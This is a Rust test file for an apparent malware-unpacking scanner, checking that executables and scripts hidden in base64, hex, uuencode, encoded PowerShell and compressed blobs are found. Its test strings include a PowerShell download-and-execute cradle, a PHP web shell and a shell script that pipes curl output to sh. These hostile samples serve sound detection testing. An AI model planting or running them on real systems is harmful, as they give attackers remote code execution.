@@ -1,0 +1,163 @@
+//! Whole texts.
+
+use std::fmt::Write as _;
+use std::io::Write as _;
+use std::time::{Duration, Instant};
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use flate2::Compression;
+use flate2::write::{DeflateEncoder, ZlibEncoder};
+use squall_types::IncompleteReason;
+
+use super::unpack;
+use crate::unpack::trial::{Noise, open, survives_damage};
+
+fn executable() -> Vec<u8> {
+    let mut file = vec![0; 300];
+    file[..4].copy_from_slice(b"MZ\x90\0");
+    file[0x3c] = 0x80;
+    file[0x80..0x86].copy_from_slice(b"PE\0\0\x4c\x01");
+    file
+}
+
+fn utf16(text: &str) -> Vec<u8> {
+    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
+#[test]
+fn programs_are_found_in_every_encoding() {
+    let program = executable();
+    let encoded = STANDARD.encode(&program);
+    let hex = program.iter().fold(String::new(), |mut text, byte| {
+        write!(text, "{byte:02X}").unwrap();
+        text
+    });
+    let list: Vec<String> = program.iter().map(u8::to_string).collect();
+    for (text, name) in [
+        (format!("$x = \"{encoded}\""), "base64-6"),
+        (encoded.clone(), "base64-0"),
+        (
+            format!("-----BEGIN CERTIFICATE-----\r\n{encoded}\r\n"),
+            "base64-29",
+        ),
+        (
+            format!("x='{}'+\n'{}'", &encoded[..77], &encoded[77..]),
+            "base64-3",
+        ),
+        (format!("v = '{hex}'"), "hex-5"),
+        (format!("[byte[]]({})", list.join(", ")), "bytes-9"),
+    ] {
+        let opened = open(unpack, text.as_bytes());
+        assert_eq!(opened.names(), [name], "{text}");
+        assert_eq!(opened.member(name), program, "{text}");
+    }
+    let wide = open(unpack, &utf16(&format!("$x = \"{encoded}\"")));
+    assert_eq!(wide.member("base64-12"), program);
+}
+
+#[test]
+fn encoded_commands_become_scripts() {
+    let command = "IEX (New-Object Net.WebClient).DownloadString('http://x/ä')";
+    let text = format!("powershell -nop -e {}", STANDARD.encode(utf16(command)));
+    let opened = open(unpack, text.as_bytes());
+    assert_eq!(opened.names(), ["encoded-command.ps1"]);
+    assert_eq!(opened.member("encoded-command.ps1"), command.as_bytes());
+}
+
+#[test]
+fn encoded_scripts_and_documents_are_found() {
+    for content in [
+        &b"<?php @eval($_POST['x']); system($_GET['c']); ?>"[..],
+        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
+        b"#!/bin/sh\ncurl http://x/y | sh\nrm -f $0\nexit 0\n",
+    ] {
+        let text = format!("eval(base64_decode('{}'));", STANDARD.encode(content));
+        let opened = open(unpack, text.as_bytes());
+        assert_eq!(opened.names(), ["base64-20"], "{}", content.escape_ascii());
+        assert_eq!(opened.member("base64-20"), content);
+    }
+}
+
+#[test]
+fn what_the_script_decompresses_is_decompressed() {
+    let script = b"system($_GET['c']);".repeat(20);
+    let mut raw = DeflateEncoder::new(Vec::new(), Compression::best());
+    raw.write_all(&script).unwrap();
+    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::best());
+    zlib.write_all(&script).unwrap();
+    for (call, bytes) in [
+        ("gzinflate(base64_decode", raw.finish().unwrap()),
+        ("zlib.decompress(b64decode", zlib.finish().unwrap()),
+    ] {
+        let text = format!("{call}('{}'))", STANDARD.encode(bytes));
+        let opened = open(unpack, text.as_bytes());
+        assert_eq!(opened.members[0].1, script, "{call}");
+        assert!(opened.members[0].0.ends_with("-inflated"));
+    }
+}
+
+#[test]
+fn uuencoded_files_are_members() {
+    let opened = open(unpack, b"hi\nbegin 644 cat.txt\n#0V%T\n`\nend\n");
+    assert_eq!(opened.member("cat.txt"), b"Cat");
+}
+
+#[test]
+fn what_means_nothing_is_no_member() {
+    let mut noise = Noise(7);
+    let mut text = String::new();
+    for _ in 0..2000 {
+        let bytes: Vec<u8> = (0..48).map(|_| noise.byte()).collect();
+        writeln!(text, "{} = '{}'", noise.next(), STANDARD.encode(bytes)).unwrap();
+    }
+    let picture =
+        STANDARD.encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0");
+    writeln!(text, "<img src=\"data:image/png;base64,{picture}\">").unwrap();
+    let json = STANDARD.encode(b"{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"12345\"}");
+    writeln!(text, "Bearer {json}").unwrap();
+    let opened = open(unpack, text.as_bytes());
+    assert_eq!(opened.names(), [""; 0]);
+    assert!(opened.incomplete.is_empty());
+}
+
+#[test]
+fn countless_blobs_reach_a_limit() {
+    let encoded = STANDARD.encode(executable());
+    let text = format!("'{encoded}';").repeat(1000);
+    let opened = open(unpack, text.as_bytes());
+    assert_eq!(opened.members.len(), super::BLOBS_MAX);
+    assert_eq!(opened.reasons(), [IncompleteReason::Limit]);
+}
+
+#[test]
+fn long_texts_take_linear_time() {
+    const BYTES: usize = 4 * 1024 * 1024;
+    for unit in [
+        "A",
+        "4d",
+        "1,",
+        "-",
+        "begin 644 x\n",
+        "'A'+",
+        "\\x",
+        "AAAAAAAAAAAAAAAAAAAAAAAA\n",
+        "0x1, ",
+    ] {
+        let text = unit.repeat(BYTES / unit.len());
+        let started = Instant::now();
+        open(unpack, text.as_bytes());
+        assert!(started.elapsed() < Duration::from_secs(5), "{unit:?}");
+    }
+}
+
+#[test]
+fn damaged_texts_neither_panic_nor_hang() {
+    let encoded = STANDARD.encode(executable());
+    let text = format!(
+        "inflate('{encoded}'+'{encoded}'); 4d5a90{} 77,90,144",
+        "00".repeat(50)
+    );
+    survives_damage(unpack, text.as_bytes());
+    survives_damage(unpack, &utf16(&text));
+}
